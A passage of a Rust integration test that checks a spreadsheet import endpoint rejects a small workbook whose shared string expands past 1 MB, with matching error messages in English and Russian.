    assert!(page.body.contains("The file is too large: at most 1 MB."), "{}", page.body);

    // A workbook of a few kilobytes whose one text unpacks to 2 MiB: 422 naming the part, and
    // in words on the page.
    let book = workbook_with_a_long_string(2 * 1024 * 1024);
    assert!(book.len() < 16 * 1024, "{} bytes", book.len());
    let req = Request::post("/api/v1/imports/vacancies?file_name=book.xlsx")
        .header("authorization", format!("Bearer {analyst}"))
        .header("content-type", "application/octet-stream")
        .body(Body::from(book.clone()))
        .unwrap();
    let p = h.send(req).await.problem(422);
    assert_eq!(p["code"], "unreadable");
    assert_eq!(p["detail"], "book.xlsx: xl/sharedStrings.xml: shared string 0 is larger than 1048576 bytes");
    let page = upload_page(&h, "ru", "vacancies", &book).await;
    assert_eq!(page.status, 422, "{}", page.body);
    let said = "book.xlsx: общий текст № 0 книги (xl/sharedStrings.xml) больше 1 МБ; он не читается.";
    assert!(page.body.contains(&common::esc(said)), "{}", page.body);
    // The same workbook with a short text is read (and refused by its header, as a workbook).
    let book = workbook_with_a_long_string(10);
    let page = upload_page(&h, "en", "vacancies", &book).await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(page.body.contains("header"), "{}", page.body);
    assert_eq!(imports_recorded(&h, &analyst).await, 1);
}
